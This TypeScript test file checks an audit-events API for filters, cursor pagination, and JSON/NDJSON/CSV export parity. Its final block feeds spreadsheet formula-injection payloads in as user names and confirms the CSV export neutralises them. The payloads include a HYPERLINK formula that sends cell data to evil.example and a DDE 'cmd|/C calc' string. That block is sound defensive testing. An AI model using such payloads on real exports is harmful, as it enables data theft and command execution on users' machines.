import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../../src/app.js';
import type { AuditEventInput } from '../../../src/audit/types.js';
import { baseConfig, bearer, cli, workspace, type Workspace } from './fixture.js';
import { useBackends } from '../../helpers/backends.js';
import { queryColumn } from '../../helpers/db-query.js';

/** GET /api/v1/audit/events: filters, keyset pagination while events arrive, and JSON/NDJSON/CSV parity. */

const REPOS = ['upstream.test/org/app', 'upstream.test/org/db'];

function pullEvent(i: number): AuditEventInput {
  return {
    kind: i % 5 === 0 ? 'pull.blob' : 'pull.manifest',
    requestId: `req-${i}`,
    client: '127.0.0.1',
    user: i % 2 ? 'ci' : null,
    upstream: 'upstream.test',
    repository: REPOS[i % 2],
    reference: i % 3 ? '1.0' : 'sha256:' + 'a'.repeat(64),
    digest: `sha256:${i.toString(16).padStart(64, '0')}`,
    decision: i % 4 === 0 ? 'deny' : i % 7 === 0 ? 'warn' : 'allow',
    policy: 'signed',
    policyVersion: 1,
    mode: 'enforce',
    // Text that needs CSV quoting and JSON escaping.
    reasons: i % 4 === 0 ? [`no signature, "quoted", comma, and\nnewline #${i}`] : [],
    evidence: { signer: { issuer: 'https://issuer.example', subject: `ci@${i}` }, logIndex: i },
    cacheHit: i % 3 === 0,
    bytes: i * 100,
    status: i % 4 === 0 ? 403 : 200,
  };
}

/** RFC 4180 parser that keeps whether a cell was quoted: an unquoted empty cell is null. */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    }
    row.push({ value, quoted });
    if (text[i] === ',') i++;
    else {
      i += 2; // \r\n
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const NUMBERS = new Set(['id', 'policyVersion', 'bytes', 'status']);
const JSONS = new Set(['reasons', 'evidence']);

function csvToEvents(text: string): Record<string, unknown>[] {
  const [header, ...rows] = parseCsv(text);
  const names = header!.map((c) => c.value);
  return rows.map((cells) =>
    Object.fromEntries(
      cells.map((c, k) => {
        const name = names[k]!;
        if (!c.quoted && c.value === '') return [name, null];
        if (NUMBERS.has(name)) return [name, Number(c.value)];
        if (name === 'cacheHit') return [name, c.value === 'true'];
        if (JSONS.has(name)) return [name, JSON.parse(c.value)];
        return [name, c.value];
      }),
    ),
  );
}

const backends = useBackends();

describe.each(backends.names)('audit events API (%s)', (backend) => {
  let ws: Workspace;
  let app: App;
  const get = (query: string, who: 'alice' | 'audrey' = 'audrey') =>
    request(app.express).get(`/api/v1/audit/events${query}`).set('Authorization', bearer(who));

  beforeAll(async () => {
    ws = await workspace('events');
    await ws.write(baseConfig({ database: await backends.database(backend) }));
    app = await ws.open(); // event 1 is the config policy version
    await Promise.all(Array.from({ length: 240 }, (_, i) => app.audit.append(pullEvent(i + 1))));
  });
  afterAll(() => ws.remove());

  it('pages with an opaque cursor that stays correct while new events arrive', async () => {
    const seen: number[] = [];
    let cursor: string | null = '';
    let added = 0;
    let pages = 0;
    while (cursor !== null) {
      const res = await get(`?kind=pull.manifest&limit=50${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
      expect(res.status, res.text).toBe(200);
      const ids = (res.body.events as { id: number; kind: string }[]).map((e) => e.id);
      expect(ids.length).toBeLessThanOrEqual(50);
      seen.push(...ids);
      cursor = res.body.next as string | null;
      pages++;
      // New events land between page reads, some matching the filter and some not.
      if (pages <= 3) for (let k = 0; k < 7; k++, added++) await app.audit.append(pullEvent(1000 + added));
    }
    const expected = await queryColumn(app.config.database, `SELECT id FROM audit_events WHERE kind = 'pull.manifest' ORDER BY id`);
    expect(seen).toEqual(expected);
    expect(new Set(seen).size).toBe(seen.length);
    expect(pages).toBeGreaterThan(4);
  });

  it('pages newest first with order=desc, and events arriving between pages do not shift the next page', async () => {
    const matching = await queryColumn(app.config.database, `SELECT id FROM audit_events WHERE kind = 'pull.blob' ORDER BY id DESC`);
    expect(matching.length).toBeGreaterThan(30);
    const first = await get('?kind=pull.blob&order=desc&limit=30');
    expect(first.status, first.text).toBe(200);
    const firstIds = (first.body.events as { id: number }[]).map((e) => e.id);
    expect(firstIds).toEqual(matching.slice(0, 30));
    expect(first.headers['x-next-cursor']).toBe(first.body.next);
    expect(first.headers.link).toMatch(/order=desc.*rel="next"/);
    for (let k = 0; k < 10; k++) await app.audit.append(pullEvent(2000 + k)); // two of them are blobs

    const second = await get(`?kind=pull.blob&order=desc&limit=30&cursor=${encodeURIComponent(first.body.next as string)}`);
    expect(second.status, second.text).toBe(200);
    expect((second.body.events as { id: number }[]).map((e) => e.id)).toEqual(matching.slice(30));
    expect(second.body.next).toBeNull();
    expect(second.headers['x-next-cursor']).toBeUndefined();
    // A fresh first page starts at the newest event, including those just appended.
    const fresh = (await get('?kind=pull.blob&order=desc&limit=1')).body.events as { requestId: string }[];
    expect(fresh.map((e) => e.requestId)).toEqual(['req-2005']);
  });

  it('refuses an unknown order and a cursor from the other order', async () => {
    const unknown = await get('?order=newest');
    expect(unknown.status).toBe(400);
    expect(unknown.body.errors).toEqual([{ path: 'order', message: expect.stringContaining('asc') }]);
    const oldestFirst = (await get('?limit=5')).body.next as string;
    const newestFirst = (await get('?limit=5&order=desc')).body.next as string;
    const mixed = await get(`?limit=5&order=desc&cursor=${oldestFirst}`);
    expect(mixed.status).toBe(400);
    expect(mixed.body.errors).toEqual([{ path: 'cursor', message: expect.stringContaining('order=asc') }]);
    const mixedBack = await get(`?limit=5&cursor=${newestFirst}`);
    expect(mixedBack.status).toBe(400);
    expect(mixedBack.body.errors).toEqual([{ path: 'cursor', message: expect.stringContaining('order=desc') }]);
  });

  it('defaults to 100 events per page and refuses more than 1000', async () => {
    const res = await get('');
    expect(res.body.events).toHaveLength(100);
    expect(typeof res.body.next).toBe('string');
    const tooMany = await get('?limit=1001');
    expect(tooMany.status).toBe(400);
    expect(tooMany.body.errors).toEqual([{ path: 'limit', message: expect.any(String) }]);
  });

  it('refuses a parameter it does not know instead of answering with the whole log', async () => {
    const typo = await get('?decison=deny&limit=5');
    expect(typo.status).toBe(400);
    expect(typo.body.errors).toEqual([{ path: 'decison', message: expect.stringContaining('decision') }]);
  });

  it('filters by decision, repository, digest, user, kind and time, combined', async () => {
    const res = await get(`?decision=deny&repository=${encodeURIComponent(REPOS[0]!)}&limit=1000`);
    const events = res.body.events as Array<Record<string, unknown>>;
    expect(events.length).toBeGreaterThan(10);
    expect(events.every((e) => e.decision === 'deny' && e.repository === REPOS[0])).toBe(true);
    expect(events[0]!.reasons).toEqual([expect.stringContaining('no signature')]);

    const digest = pullEvent(8).digest!;
    expect((await get(`?digest=${digest}`)).body.events.map((e: { requestId: string }) => e.requestId)).toEqual(['req-8']);
    const byUser = (await get('?user=ci&limit=1000')).body.events as Array<{ user: string }>;
    expect(byUser.length).toBeGreaterThan(100);
    expect(byUser.every((e) => e.user === 'ci')).toBe(true);
    expect((await get('?since=2000-01-01T00:00:00Z&until=2001-01-01T00:00:00Z')).body).toEqual({ events: [], next: null });
    expect((await get('?since=1h&limit=1000')).body.events.length).toBeGreaterThan(200);

    const bad = await get('?decision=maybe&since=last-week&format=xml&cursor=zzz');
    expect(bad.status).toBe(400);
    expect((bad.body.errors as { path: string }[]).map((e) => e.path).sort()).toEqual(['cursor', 'decision', 'format', 'since']);
  });

  it('exports NDJSON and CSV that parse back to exactly the JSON events', async () => {
    const json = (await get('?limit=1000')).body.events as Record<string, unknown>[];
    expect(json.length).toBeGreaterThan(240);
    const ndjson = await get('?format=ndjson');
    expect(ndjson.headers['content-type']).toMatch(/application\/x-ndjson/);
    const lines = ndjson.text.trim().split('\n').map((l) => JSON.parse(l));
    expect(lines).toEqual(json);
    const csv = await get('?format=csv');
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.text.split('\r\n')[0]).toBe(
      'id,time,kind,requestId,client,user,upstream,repository,reference,digest,decision,policy,policyVersion,mode,reasons,evidence,cacheHit,bytes,status,prevHash,hash',
    );
    expect(csvToEvents(csv.text)).toEqual(json);
  });

  it('exports NDJSON and CSV newest first with order=desc', async () => {
    const json = (await get('?limit=1000')).body.events as Record<string, unknown>[];
    const newestFirst = [...json].reverse();
    expect((await get('?limit=1000&order=desc')).body.events).toEqual(newestFirst);
    const ndjson = await get('?format=ndjson&order=desc');
    expect(ndjson.text.trim().split('\n').map((l) => JSON.parse(l))).toEqual(newestFirst);
    expect(csvToEvents((await get('?format=csv&order=desc')).text)).toEqual(newestFirst);
  });

  it('pages NDJSON and CSV exports too when a limit is given', async () => {
    const res = await get('?format=ndjson&limit=10');
    expect(res.text.trim().split('\n')).toHaveLength(10);
    const next = res.headers['x-next-cursor'];
    expect(next).toBeTruthy();
    expect(res.headers.link).toContain('rel="next"');
    const second = await get(`?format=ndjson&limit=10&cursor=${next}`);
    expect(JSON.parse(second.text.split('\n')[0]!).id).toBe(JSON.parse(res.text.trim().split('\n')[9]!).id + 1);
  });

  it('answers the same query from the CLI, for people on the host', async () => {
    const api = (await get('?decision=deny&format=csv')).text;
    const local = await cli(['audit', 'query', '--config', ws.configPath, '--decision', 'deny', '--format', 'csv']);
    expect(local.code, local.stderr).toBe(0);
    expect(local.stdout).toBe(api);
    const json = await cli(['audit', 'query', '--config', ws.configPath, '--kind', 'pull.blob', '--limit', '5']);
    const page = JSON.parse(json.stdout);
    expect(page.events).toHaveLength(5);
    expect(page.events.every((e: { kind: string }) => e.kind === 'pull.blob')).toBe(true);
    expect(typeof page.next).toBe('string');
    const typo = await cli(['audit', 'query', '--config', ws.configPath, '--decison', 'deny']);
    expect(typo.code).toBe(2);

    const newest = await cli(['audit', 'query', '--config', ws.configPath, '--decision', 'deny', '--format', 'csv', '--order', 'desc']);
    expect(newest.stdout).toBe((await get('?decision=deny&format=csv&order=desc')).text);
    const mixed = await cli(['audit', 'query', '--config', ws.configPath, '--order', 'desc', '--cursor', page.next]);
    expect(mixed.code).toBe(2);
    expect(mixed.stderr).toContain('--order asc');
  });
});

describe.each(backends.names)('audit export size (%s)', (backend) => {
  let ws: Workspace;
  let app: App;

  beforeAll(async () => {
    ws = await workspace('export');
    await ws.write(baseConfig({ database: await backends.database(backend) }));
    app = await ws.open();
    // One event-loop turn: one group commit.
    await Promise.all(Array.from({ length: 50_000 }, (_, i) => app.audit.append(pullEvent(i))));
  });
  afterAll(() => ws.remove());

  it('streams a large export in order with every row', async () => {
    const res = await request(app.express).get('/api/v1/audit/events?format=ndjson').set('Authorization', bearer('alice'));
    const lines = res.text.trim().split('\n');
    expect(lines).toHaveLength(50_001);
    expect(JSON.parse(lines.at(-1)!).id).toBe(50_001);
  });
});

describe('CSV export of client-chosen text', () => {
  let ws: Workspace;
  let app: App;
  // User names a client claims with Basic credentials, each starting with a character a spreadsheet
  // would read as the start of a formula.
  const CLAIMED = ['=HYPERLINK("//evil.example/?"&A1,"details")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'plain-user'];
  const REQUEST_ID = '-1-1';

  beforeAll(async () => {
    ws = await workspace('csv');
    const base = baseConfig();
    await ws.write({ ...base, auth: { ...(base.auth as object), pull: 'token' } });
    app = await ws.open();
    for (const name of CLAIMED) {
      const res = await request(app.express)
        .get('/v2/upstream.test/org/app/manifests/1')
        .set('Authorization', `Basic ${Buffer.from(`${name}:wrong-secret`).toString('base64')}`)
        .set('X-Request-Id', REQUEST_ID);
      expect(res.status).toBe(401);
    }
  });
  afterAll(() => ws.remove());

  const exported = (format: string) =>
    request(app.express).get(`/api/v1/audit/events?kind=auth.failure&format=${format}`).set('Authorization', bearer('audrey'));

  it('neutralises cells that begin with = + - @ tab or CR, quoted, and leaves other cells alone', async () => {
    const csv = await exported('csv');
    expect(csv.status).toBe(200);
    const [header, ...rows] = parseCsv(csv.text);
    const col = (name: string) => header!.findIndex((c) => c.value === name);
    expect(rows.map((r) => r[col('user')]!.value)).toEqual(CLAIMED.map((n) => (n === 'plain-user' ? n : `'${n}`)));
    for (const r of rows) {
      expect(r[col('requestId')]).toEqual({ value: `'${REQUEST_ID}`, quoted: true });
      expect(r[col('reference')]!.value).toBe('GET /v2/upstream.test/org/app/manifests/1');
      expect(r[col('status')]).toEqual({ value: '401', quoted: false });
    }
    // In the raw text, no cell starts with a formula character, even where the text has a comma or quote.
    expect(csv.text).toContain(`"'=HYPERLINK(""//evil.example/?""&A1,""details"")"`);
    expect(csv.text).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/);
    // The CLI writes the same export.
    const local = await cli(['audit', 'query', '--config', ws.configPath, '--kind', 'auth.failure', '--format', 'csv']);
    expect(local.stdout).toBe(csv.text);
  });

  it('keeps JSON and NDJSON exact', async () => {
    const json = (await exported('json')).body.events as Array<{ user: string; requestId: string }>;
    expect(json.map((e) => e.user)).toEqual(CLAIMED);
    expect(json.every((e) => e.requestId === REQUEST_ID)).toBe(true);
    const ndjson = (await exported('ndjson')).text.trim().split('\n').map((l) => JSON.parse(l) as { user: string });
    expect(ndjson.map((e) => e.user)).toEqual(CLAIMED);
  });
});
